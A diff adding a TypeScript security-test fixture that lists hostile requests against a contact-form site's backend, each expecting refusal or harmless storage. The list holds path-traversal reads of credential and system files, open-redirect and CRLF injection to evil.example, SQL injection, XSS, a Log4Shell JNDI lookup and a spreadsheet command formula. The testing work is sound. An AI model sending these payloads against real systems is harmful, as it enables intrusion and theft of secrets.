@@ -1,0 +1,213 @@
+import type { RawRequest } from "../db/raw-request.ts";
+import { sampleRows } from "../db/sample-rows.ts";
+
+/** What somebody tries who wants in, and what may come of it. */
+export interface Try {
+  name: string;
+  request: RawRequest;
+  /** "refused": 4xx. "harmless": a page, a redirect to ourselves, or a refusal. "stored": a lead like any other. */
+  outcome: "refused" | "harmless" | "stored";
+}
+
+const rows = "/rest/v1/contact_submissions";
+const lead = sampleRows.contact_submissions;
+const json = (body: string | object, headers: string[] = []) => ({
+  headers: ["content-type: application/json", ...headers],
+  body: typeof body === "string" ? body : JSON.stringify(body),
+});
+const get = (path: string, ...headers: string[]): RawRequest => ({ method: "GET", path, headers });
+
+/** Files that are there, or might be, and are nobody's to read. */
+const files: Try[] = [
+  "/.env",
+  "/.git/config",
+  "/.git/HEAD",
+  "/.data/operator.json",
+  "/.data/publishable-key",
+  "/.data/lock",
+  "/.data/pglite/PG_VERSION",
+  "/.data/mail/",
+  "/.cache/dev/index.html",
+  "/package.json",
+  "/package-lock.json",
+  "/server/commands/start.ts",
+  "/node_modules/hono/package.json",
+  "/dist/index.html",
+  "/supabase/config.toml",
+  "/content/_data/agency.yaml",
+  "/tombstones.ndjson",
+  "/operator.json",
+  "/publishable-key",
+  "/lock",
+  "/files/resumes/1736500000000_cv.pdf",
+  "/.npmrc",
+  "/.ssh/id_rsa",
+  "/id_rsa",
+  "/backup.tgz",
+  "/ridgebeam-2026-11-22T06-05-00Z.tgz",
+  "/../package.json",
+  "/../../../../etc/passwd",
+  "/%2e%2e/package.json",
+  "/..%2f..%2f..%2fetc%2fpasswd",
+  "/%252e%252e%252fetc/passwd",
+  "/....//....//etc/passwd",
+  "/.%2e/.%2e/etc/passwd",
+  "/..%5c..%5cpackage.json",
+  "/..\\..\\package.json",
+  "/%5c..%5cpackage.json",
+  "/widgets/../../package.json",
+  "/embed/%2e%2e/%2e%2e/package.json",
+  "/embed/..%2f..%2fpackage.json",
+  "/styles/..;/package.json",
+  "/%c0%ae%c0%ae/package.json",
+  "/%u002e%u002e/package.json",
+  "/..%00/package.json",
+  "/index.html%00.js",
+  "/about%00",
+  "/%",
+  "/%zz",
+  "/%ff%fe",
+  "//etc/passwd",
+  "///package.json",
+  "/./.env",
+  "/proc/self/environ",
+  "/file:///etc/passwd",
+  "/admin/../.env",
+  "/admin.html/../../.env",
+  "/_headers",
+  "/_redirects",
+  "/404",
+  "/404.html",
+  "/wp-login.php",
+  "/.aws/credentials",
+  "/.DS_Store",
+  "/robots.txt/../.env",
+].map((path): Try => ({
+  name: `reads ${path}`,
+  request: get(path),
+  // Led to the page of that name, which is not there.
+  outcome: path === "/dist/index.html" ? "harmless" : "refused",
+}));
+
+/** Doors of other programs, and of the operator's. */
+const doors: Try[] = [
+  ...[
+    "/metrics", "/debug/pprof", "/server-status", "/actuator/env", "/call/rows/page", "/alive", "/backup", "/resume/1", "/api/leads?", "/api/counts",
+    "/api/pulse", "/api/export?format=csv", "/enter?key=1", "/__mail", "/__dev/events", "/graphql", "/graphql/v1", "/auth/v1/token", "/auth/v1/admin/users",
+    "/functions/v1/x", "/realtime/v1/websocket", "/pg/query", "/pg-meta/default/query",
+  ].map((path): Try => ({ name: `finds ${path}`, request: get(path), outcome: "refused" })),
+  ...[
+    "find_person", "files_of_submissions", "delete_submissions", "due_submissions", "note_listed", "hold_submission", "hold_upload",
+    "count_tries", "release_deliveries", "change_status", "client_address", "pg_sleep", "version", "pg_read_file", "query",
+  ].flatMap((name): Try[] => [
+    { name: `calls ${name}`, request: { path: `/rest/v1/rpc/${name}`, ...json({}) }, outcome: "refused" },
+    { name: `calls ${name} with arguments`, request: { path: `/rest/v1/rpc/${name}`, ...json({ wanted: { emails: ["a@b.c"] } }) }, outcome: "refused" },
+  ]),
+]; // prettier-ignore
+
+/** Ways to be led to another site, or to have a page say it. */
+const redirects: Try[] = [
+  "//evil.example", "/\\evil.example", "/%2f%2fevil.example", "/%5cevil.example", "//evil.example/..", "//evil.example/about/", "/about//evil.example/",
+  "/about/?next=//evil.example", "/https://evil.example/", "/.evil.example/", "/about/%0d%0aLocation:%20https://evil.example", "/about%0d%0aset-cookie:a=b/", "/index.html?//evil.example",
+].map((path): Try => ({ name: `is led by ${path}`, request: get(path), outcome: "harmless" })); // prettier-ignore
+
+/** Headers that frameworks and proxies believe. */
+const headers: Try[] = [
+  ...["Host: evil.example", "X-Forwarded-Host: evil.example", "X-Original-URL: /.env", "X-Rewrite-URL: /.env", "Forwarded: host=evil.example", "X-Forwarded-Proto: https", "Origin: https://evil.example",
+    "Range: bytes=0-0,1-1,2-2,3-3", "Range: bytes=-1", "Accept-Encoding: gzip;q=0, *;q=0", "Accept-Encoding: br, zstd, x", "If-None-Match: *", "If-Modified-Since: x", "Expect: 200-ok",
+    "Connection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "Upgrade: websocket\r\nConnection: Upgrade", "Cookie: sb-access-token=x", "Max-Forwards: 0",
+  ].map((line): Try => ({ name: `asks for a page with ${line.split("\r\n")[0]}`, request: get("/about", line), outcome: "harmless" })),
+  ...["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: PATCH", "Accept-Profile: private", "Accept: application/vnd.pgrst.plan+json", "Accept: text/csv",
+    "Prefer: count=exact", "Prefer: tx=rollback", "Range: 0-10", "X-Client-Info: '; drop table x; --", "Authorization: Basic YTpi", "Authorization: Bearer", "X-Supabase-Role: service_role",
+  ].map((line): Try => ({ name: `reads rows with ${line}`, request: get(`${rows}?select=*`, line), outcome: "refused" })),
+]; // prettier-ignore
+
+const methods: Try[] = [
+  ...["TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "MOVE", "SEARCH", "PURGE", "LOCK"].map(
+    (method): Try => ({
+      name: `${method} of a page`,
+      request: { method, path: "/about" },
+      outcome: "refused",
+    }),
+  ),
+  ...["TRACE", "PUT", "PATCH", "DELETE", "MERGE", "COPY"].map((method): Try => ({
+    name: `${method} of rows`,
+    request: { method, path: `${rows}?id=not.is.null`, ...json({ email: "x@y.z" }) },
+    outcome: "refused",
+  })),
+];
+
+/** Queries that PostgREST knows, and some that it does not. */
+const queries: Try[] = [
+  ...["?select=email", "?select=count()", "?select=*,resume_submissions(*)", "?id=eq.00000000-0000-0000-0000-000000000000", "?or=(email.like.*@*)", "?limit=1&offset=0", "?order=created_at", "?email=fts.kim",
+    "?select=email&email=eq.a'%20or%201=1--", "?select=pg_sleep(5)", "?select=*::text",
+  ].map((query): Try => ({ name: `reads rows by ${query}`, request: get(rows + query), outcome: "refused" })),
+  ...["known_partners", "known_origins", "leads", "rate_limits", "salt", "deliveries", "objects", "buckets", "schema_migrations", "CONTACT_SUBMISSIONS", "contact_submissions%20", "public.contact_submissions", "%22contact_submissions%22", "pg_stat_activity", "information_schema.tables", ""]
+    .map((name): Try => ({ name: `writes into "${name}"`, request: { path: `/rest/v1/${name}`, ...json(lead) }, outcome: "refused" })),
+  ...["?on_conflict=id", "?on_conflict=email", "?columns=id,status", "?columns=spam_score", "?columns=created_at,email,source", '?columns=%22email%22%22%22', "?select=*"].map(
+    (query): Try => ({ name: `writes rows by ${query}`, request: { path: rows + query, ...json(lead, query.startsWith("?on") ? ["prefer: resolution=merge-duplicates"] : query.startsWith("?select") ? ["prefer: return=representation"] : []) }, outcome: "refused" }),
+  ),
+]; // prettier-ignore
+
+const text = JSON.stringify(lead);
+/** Bodies that parsers read differently. */
+const bodies: Try[] = [
+  ...Object.entries({
+    "a byte order mark": `\ufeff${text.slice(0, -1)},"status":"closed"}`,
+    "a comment": `/**/${text}`,
+    "single quotes": text.replaceAll('"', "'"),
+    "a trailing comma": text.replace(/}$/, ",}"),
+    "NaN": text.replace(/}$/, ',"form_check":{"seconds":NaN}}'),
+    "Infinity": text.replace(/}$/, ',"form_check":{"seconds":1e9999}}'),
+    "a status of its own": text.replace(/}$/, ',"status":"closed"}'),
+    "the same column twice, once forbidden": text.replace(/}$/, ',"spam_score":0}'),
+    "an escaped forbidden column": text.replace(/}$/, ',"\\u0073tatus":"closed"}'),
+    "an id that is none": text.replace(/}$/, ',"id":"1"}'),
+    "an id of SQL": text.replace(/}$/, ',"id":"\'; drop table x; --"}'),
+    "a source of its own": text.replace('"contact_form"', '"admin"'),
+    "an e-mail with a header": text.replace("dana@example.com", "a@b.c\\r\\nBcc: d@e.f"),
+    "an e-mail of two": text.replace("dana@example.com", "a@b.c d@e.f"),
+    "a NUL": text.replace("Reyes", "\\u0000"),
+    "half of a surrogate pair": text.replace("Reyes", "\\ud800"),
+    "a consent without text": text.replace(/}$/, ',"consent":{}}'),
+    "a consent with more": text.replace(/}$/, ',"consent":{"text":"x","admin":true}}'),
+    "utm of another kind": text.replace(/}$/, ',"utm":{"utm_source":{"a":1}}}'),
+    "utm with more": text.replace(/}$/, ',"utm":{"gclid":"x"}}'),
+    "a name of 121 letters": text.replace("Reyes", "x".repeat(121)),
+    "a boolean for a text's list": text.replace(/}$/, ',"utm":true}'),
+    "UTF-16": Buffer.from(text, "utf16le").toString("latin1"),
+    "an array in an array": `[[${text}]]`,
+    "two documents": `${text}${text}`,
+  }).map(([name, body]): Try => ({ name: `sends ${name}`, request: { path: rows, ...json(body) }, outcome: "refused" })),
+  ...["application/x-www-form-urlencoded", "text/plain", "application/xml", "text/csv", "multipart/form-data; boundary=x", "application/octet-stream", "application/json5"].map(
+    (type): Try => ({ name: `sends rows as ${type}`, request: { path: rows, headers: [`content-type: ${type}`], body: text }, outcome: "refused" }),
+  ),
+  ...["<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A1", "'; drop table contact_submissions; --", "\\u202egnp.exe"].map(
+    (name): Try => ({ name: `is called ${name}`, request: { path: rows, ...json(text.replace("Dana", name)) }, outcome: "stored" }),
+  ),
+]; // prettier-ignore
+
+const object = "/storage/v1/object";
+const storage: Try[] = [
+  ...["/resumes/1736500000000_cv.pdf", "/public/resumes/1736500000000_cv.pdf", "/authenticated/resumes/1736500000000_cv.pdf", "/sign/resumes/1736500000000_cv.pdf?token=x", "/info/resumes/1736500000000_cv.pdf",
+    "/info/public/resumes/x", "/resumes/..%2f..%2foperator.json", "/resumes/%2e%2e/%2e%2e/lock"].map(
+    (path): Try => ({ name: `reads the file ${path}`, request: get(object + path), outcome: "refused" }),
+  ),
+  ...["/copy", "/move", "/sign/resumes", "/sign/resumes/1736500000000_cv.pdf", "/upload/sign/resumes/x.pdf", "/resumes", "/resumes/", "/list-v2/resumes"].map(
+    (path): Try => ({ name: `posts to ${path} of the files`, request: { path: object + path, ...json({ prefix: "", sourceKey: "a", destinationKey: "b" }) }, outcome: "refused" }),
+  ),
+  ...["/storage/v1/bucket", "/storage/v1/bucket/resumes", "/storage/v1/bucket/resumes/empty", "/storage/v1/s3/resumes", "/storage/v1/upload/resumable", "/storage/v1/render/image/public/resumes/x", "/storage/v1/iceberg/v1/config", "/storage/v1/"].map(
+    (path): Try => ({ name: `asks storage for ${path}`, request: { path, ...json({ id: "x", name: "x", public: true }) }, outcome: "refused" }),
+  ),
+]; // prettier-ignore
+
+export const strangerTries: readonly Try[] = [
+  ...files,
+  ...doors,
+  ...redirects,
+  ...headers,
+  ...methods,
+  ...queries,
+  ...bodies,
+  ...storage,
+];
